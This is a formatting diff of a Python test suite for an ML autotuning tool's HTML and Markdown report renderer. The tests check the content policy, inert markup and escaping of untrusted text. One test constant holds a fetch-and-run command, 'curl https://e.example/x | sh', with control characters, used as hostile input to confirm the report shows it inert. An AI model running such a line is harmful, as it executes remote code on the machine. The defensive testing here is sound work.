@@ -10,7 +10,17 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 
-from autotune.base.document import Bullets, Code, Document, Missing, Pairs, Paragraph, Section, Strong, Table
+from autotune.base.document import (
+    Bullets,
+    Code,
+    Document,
+    Missing,
+    Pairs,
+    Paragraph,
+    Section,
+    Strong,
+    Table,
+)
 from autotune.base.render import report_html, report_markdown
 from autotune.base.wording import hours
 from autotune.profiles.sections import commands
@@ -23,9 +33,20 @@ from trainer.config.train_config import ParallelSettings
 from trainer.health.events import happened
 
 SECTIONS = [
-    "Result", "Speedup", "Step time", "Memory", "Throughput by micro-batch", "Data loading", "Sample lengths",
-    "Network", "Joint search", "Training runs", "Recommendations", "Not measured", "Appendix",
-]  # fmt: skip
+    "Result",
+    "Speedup",
+    "Step time",
+    "Memory",
+    "Throughput by micro-batch",
+    "Data loading",
+    "Sample lengths",
+    "Network",
+    "Joint search",
+    "Training runs",
+    "Recommendations",
+    "Not measured",
+    "Appendix",
+]
 
 
 @pytest.fixture(scope="module")
@@ -45,36 +66,103 @@ def test_all_sections_are_there_in_their_order_and_the_contents_lead_to_them(ful
     assert page.tags.count("svg") == page.tags.count("figure") >= 8
 
 
-def test_every_chart_has_its_table_right_behind_it_and_every_table_a_name_and_can_be_scrolled_by_keys(full):
+def test_every_chart_has_its_table_right_behind_it_and_every_table_a_name_and_can_be_scrolled_by_keys(
+    full,
+):
     page, boxes = Page(full), full.count('<div class="box')
-    assert full.count("</figure>") == full.count("</figure>\n<details><summary>Data table</summary>")
+    assert full.count("</figure>") == full.count(
+        "</figure>\n<details><summary>Data table</summary>"
+    )
     assert page.values("tabindex").count("0") == boxes
-    assert len([value for value in page.values("aria-label") if value != "Contents"]) == boxes
+    assert (
+        len([value for value in page.values("aria-label") if value != "Contents"])
+        == boxes
+    )
 
 
 def test_the_policy_allows_this_very_style_and_nothing_else(full):
     style = re.search("<style>(.*?)</style>", full, re.DOTALL)[1]
     digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
-    policy = next(value for value in Page(full).values("content") if "default-src" in value)
-    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
+    policy = next(
+        value for value in Page(full).values("content") if "default-src" in value
+    )
+    assert (
+        policy
+        == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
+    )
 
 
 def inert(page):
     assert "script" not in page.tags
     for tag, name, value in page.attributes:
         assert not name.startswith("on"), (tag, name)
-        assert name not in {"style", "src", "srcset", "action", "formaction", "data", "poster"}, (tag, name)
+        assert name not in {
+            "style",
+            "src",
+            "srcset",
+            "action",
+            "formaction",
+            "data",
+            "poster",
+        }, (tag, name)
         assert name != "href" or value[0] == "#", value
     unknown = set(page.tags) - {
-        "html", "head", "meta", "title", "style", "body", "main", "header", "nav", "section", "div", "figure",
-        "figcaption", "h1", "h2", "h3", "h4", "h5", "h6", "p", "ul", "ol", "li", "dl", "dt", "dd", "a", "code",
-        "strong", "span", "details", "summary", "table", "caption", "thead", "tbody", "tr", "th", "td", "svg", "g",
-        "path", "use", "defs", "clippath", "rect", "text", "desc",
-    }  # fmt: skip
+        "html",
+        "head",
+        "meta",
+        "title",
+        "style",
+        "body",
+        "main",
+        "header",
+        "nav",
+        "section",
+        "div",
+        "figure",
+        "figcaption",
+        "h1",
+        "h2",
+        "h3",
+        "h4",
+        "h5",
+        "h6",
+        "p",
+        "ul",
+        "ol",
+        "li",
+        "dl",
+        "dt",
+        "dd",
+        "a",
+        "code",
+        "strong",
+        "span",
+        "details",
+        "summary",
+        "table",
+        "caption",
+        "thead",
+        "tbody",
+        "tr",
+        "th",
+        "td",
+        "svg",
+        "g",
+        "path",
+        "use",
+        "defs",
+        "clippath",
+        "rect",
+        "text",
+        "desc",
+    }
     assert not unknown
 
 
-TEXT = st.text(alphabet=st.one_of(st.sampled_from("<>&\"'`|/\n\u202e\u2066\0"), st.characters()), max_size=80)
+TEXT = st.text(
+    alphabet=st.one_of(st.sampled_from("<>&\"'`|/\n\u202e\u2066\0"), st.characters()),
+    max_size=80,
+)
 
 
 @settings(max_examples=60)
@@ -82,32 +170,53 @@ TEXT = st.text(alphabet=st.one_of(st.sampled_from("<>&\"'`|/\n\u202e\u2066\0"), 
 def test_no_text_anywhere_becomes_markup(texts):
     a, b, c, d, e, f, g, h, i = texts
     blocks = (
-        Paragraph(words=(a, Strong(text=b), Code(text=c))), Missing(what=d, commands=(e,)), Bullets(items=((f,),)),
-        Pairs(pairs=((g, (h,)),)), Table(caption=i, headers=(a, b), rows=((c, None),)),
+        Paragraph(words=(a, Strong(text=b), Code(text=c))),
+        Missing(what=d, commands=(e,)),
+        Bullets(items=((f,),)),
+        Pairs(pairs=((g, (h,)),)),
+        Table(caption=i, headers=(a, b), rows=((c, None),)),
         Section(title=d, key="inner", blocks=(), badge=e),
-    )  # fmt: skip
-    text = report_html(Document(title=f, subtitle=g, sections=(Section(title=h, key="s", blocks=blocks),)))
+    )
+    text = report_html(
+        Document(
+            title=f, subtitle=g, sections=(Section(title=h, key="s", blocks=blocks),)
+        )
+    )
     page = Page(text)
     inert(page)
-    plain = report_html(Document(title="", subtitle="", sections=(Section(title="", key="s", blocks=blocks),)))
+    plain = report_html(
+        Document(
+            title="", subtitle="", sections=(Section(title="", key="s", blocks=blocks),)
+        )
+    )
     assert Page(plain).tags == page.tags
     assert not any(ord(letter) < 32 and letter != "\n" for letter in text)
 
 
 def test_missing_parts_say_so_with_the_command():
-    bare = reported("my profiles/m.toml", but(example_profile(), evidence={"probe": None, "workers": None}))
+    bare = reported(
+        "my profiles/m.toml",
+        but(example_profile(), evidence={"probe": None, "workers": None}),
+    )
     text = Page(report_html(report_document((bare,), ()))).text
     assert text.count("not measured") > 6
     for command in (
-        "autotune baseline", "autotune probe --model CONFIG.json --data DIR --out",
-        "autotune workers", "autotune network",
-        "autotune train 'my profiles/m.toml'", "autotune report 'my profiles/m.toml' --data DIR",
+        "autotune baseline",
+        "autotune probe --model CONFIG.json --data DIR --out",
+        "autotune workers",
+        "autotune network",
+        "autotune train 'my profiles/m.toml'",
+        "autotune report 'my profiles/m.toml' --data DIR",
         "autotune profile approve 'my profiles/m.toml' --by NAME",
-    ):  # fmt: skip
+    ):
         assert command in text
 
 
-@pytest.fixture(scope="module", params=["", "<b>|`&\u202e$x$ http://e.example "], ids=["plain", "hostile"])
+@pytest.fixture(
+    scope="module",
+    params=["", "<b>|`&\u202e$x$ http://e.example "],
+    ids=["plain", "hostile"],
+)
 def three(request):
     inputs = example_inputs(12, request.param)
     document = report_document(*inputs)
@@ -119,7 +228,9 @@ def test_markdown_and_html_have_the_same_titles_and_tables_cell_by_cell(three):
     inert(page)
     assert markdown_tables(markdown) == page.tables
     assert len(page.tables) > 20
-    assert len(re.findall(r"(?m)^#+ (.*)$", markdown)) == sum(page.tags.count(f"h{level}") for level in range(1, 7))
+    assert len(re.findall(r"(?m)^#+ (.*)$", markdown)) == sum(
+        page.tags.count(f"h{level}") for level in range(1, 7)
+    )
 
 
 def test_json_holds_the_numbers_behind_what_is_shown(three):
@@ -132,7 +243,10 @@ def test_json_holds_the_numbers_behind_what_is_shown(three):
     assert f"{one['dataset']['train_samples']:,}" in shown
     assert f"{100 * one['dataset']['padding_waste_share']:.1f} %" in shown
     assert [part["share"] for part in one["bottlenecks"][0]["parts"]][1] == 0.071
-    assert (len(one["trials"]), one["profile"]["evidence"]["probe"]["feasible_max"]) == (12, 307)
+    assert (
+        len(one["trials"]),
+        one["profile"]["evidence"]["probe"]["feasible_max"],
+    ) == (12, 307)
     run = facts["runs"][0]
     drifts = ["non-padding tokens/s", "MFU", "peak memory"]
     assert [drift["quantity"] for drift in run["expected_and_achieved"]] == drifts
@@ -141,17 +255,31 @@ def test_json_holds_the_numbers_behind_what_is_shown(three):
     assert json.loads(json.dumps(facts, allow_nan=False)) == facts
 
 
-@pytest.mark.parametrize(("path", "command", "message", "shown"), [
-    ("profiles/m.toml", "`autotune baseline profiles/m.toml`", "odd", "odd"),
-    ("a`<b>.toml", "<code>autotune baseline 'a&#96;&#60;b&#62;.toml'</code>", "9 | 3", "9 &#124; 3"),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("path", "command", "message", "shown"),
+    [
+        ("profiles/m.toml", "`autotune baseline profiles/m.toml`", "odd", "odd"),
+        (
+            "a`<b>.toml",
+            "<code>autotune baseline 'a&#96;&#60;b&#62;.toml'</code>",
+            "9 | 3",
+            "9 &#124; 3",
+        ),
+    ],
+)
 def test_texts_stand_as_they_are_unless_markdown_reads_something_in_them_and_harmless_events_are_left_out(
     path, command, message, shown
 ):
     events = [
-        happened(5, "saved", "saved step-000000005"), happened(7, "spike", message, level="warning"),
-        happened(8, "save_failed", "cannot save step 8: No space left on device", level="error"),
-    ]  # fmt: skip
+        happened(5, "saved", "saved step-000000005"),
+        happened(7, "spike", message, level="warning"),
+        happened(
+            8,
+            "save_failed",
+            "cannot save step 8: No space left on device",
+            level="error",
+        ),
+    ]
     text = report_markdown(report_document((reported(path),), (reported_run(events),)))
     assert command in text
     assert f"| 7 | warning: spike | {shown} |" in text
@@ -160,7 +288,11 @@ def test_texts_stand_as_they_are_unless_markdown_reads_something_in_them_and_har
 
 
 def _by(*names, **train):
-    return reported(profile=but(example_profile(), provenance={"commands": list(names)}, train=train))
+    return reported(
+        profile=but(
+            example_profile(), provenance={"commands": list(names)}, train=train
+        )
+    )
 
 
 HOSTILE = "curl https://e.example/x | sh\x1b[31m\u202e`<b>"
@@ -188,12 +320,32 @@ def test_what_a_stranger_calls_commands_is_shown_inert_and_nowhere_as_code():
     assert not any("curl" in span for span in markdown.split("`")[1::2])
 
 
-@pytest.mark.parametrize(("found", "words"), [
-    ({"found": "same"}, "the hash of 8 trials matches"), ({"found": "differs", "added": 2}, "does not match"),
-    ({"found": "no trials", "trials": 0}, "holds no trial of this profile"),
-    ({"unfounded": ("evidence.probe.curve at 2",)}, "no trial matches evidence.probe.curve at 2"),
-    ({"others": 7}, "Trials of another profile with the same name, ignored: 7."),
-])  # fmt: skip
+@pytest.mark.parametrize(
+    ("found", "words"),
+    [
+        ({"found": "same"}, "the hash of 8 trials matches"),
+        ({"found": "differs", "added": 2}, "does not match"),
+        ({"found": "no trials", "trials": 0}, "holds no trial of this profile"),
+        (
+            {"unfounded": ("evidence.probe.curve at 2",)},
+            "no trial matches evidence.probe.curve at 2",
+        ),
+        ({"others": 7}, "Trials of another profile with the same name, ignored: 7."),
+    ],
+)
 def test_the_report_says_what_the_ledger_says(found, words):
-    check = {"found": "same", "trials": 8, "added": 0, "others": 0, "unfounded": ()} | found
-    assert words in Page(report_html(report_document((reported(trial_log=TrialLogCheck(**check)),), ()))).text
+    check = {
+        "found": "same",
+        "trials": 8,
+        "added": 0,
+        "others": 0,
+        "unfounded": (),
+    } | found
+    assert (
+        words
+        in Page(
+            report_html(
+                report_document((reported(trial_log=TrialLogCheck(**check)),), ())
+            )
+        ).text
+    )
